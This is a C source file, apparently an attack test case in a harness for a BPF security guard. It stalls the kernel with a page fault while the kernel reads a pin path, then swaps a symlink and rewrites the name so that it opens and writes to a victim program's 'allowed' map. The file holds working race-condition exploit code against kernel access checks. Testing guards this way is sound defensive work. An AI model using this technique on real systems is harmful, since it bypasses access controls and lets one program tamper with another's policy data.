// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Opens a map by its pin, with a name that isn't in memory when the guard judges the command: the kernel waits for it, between the
 * command and the search for the file. Meanwhile the half of the name that it has is changed, and a symbolic link exchanged.
 * Success: the victim's map, to write to.
 */
#include "bpf.h"
#include "fault.h"
#include <sys/stat.h>

#define OWN "/sys/fs/bpf/own"
#define NAME SCRATCH "/name"
#define OTHER SCRATCH "/oooo"

static unsigned before;

static void exchange(char *first)
{
	memcpy(first + PAGE - before, OTHER, before);
	renameat2(AT_FDCWD, NAME, AT_FDCWD, OTHER, RENAME_EXCHANGE);
}

static void run(void)
{
	static char rest[PAGE];
	int map = must("BPF_MAP_CREATE", create_map(BPF_MAP_TYPE_ARRAY, 4, 4, 1, 0, 0));
	char *pages;

	must("BPF_OBJ_PIN", pin(map, OWN));
	must("symlink", symlink(OWN, NAME));
	must("symlink", symlink(VICTIM "/maps/allowed", OTHER));
	pages = make_fault(exchange, rest);
	for (before = 0; before < sizeof(NAME) - 1; before++) {
		int opened;

		memcpy(pages + PAGE - before, NAME, before);
		memcpy(rest, &NAME[before], sizeof(NAME) - before);
		arm_fault(pages);
		opened = act("BPF_OBJ_GET", open_pin(pages + PAGE - before, 0));
		if (opened >= 0) {
			uint32_t zero = 0, one = 1;

			act("BPF_MAP_UPDATE_ELEM", update_map(opened, &zero, &one, BPF_ANY));
			close(opened);
		}
		if (!holds("lsm"))
			return;
	}
	act("BPF_OBJ_GET", open_pin(VICTIM "/maps/allowed", 0));
}

static void undo(void)
{
	unlink(OWN);
}

ATTACK("exchanges the name of a pin while the kernel waits for it", .run = run, .undo = undo);
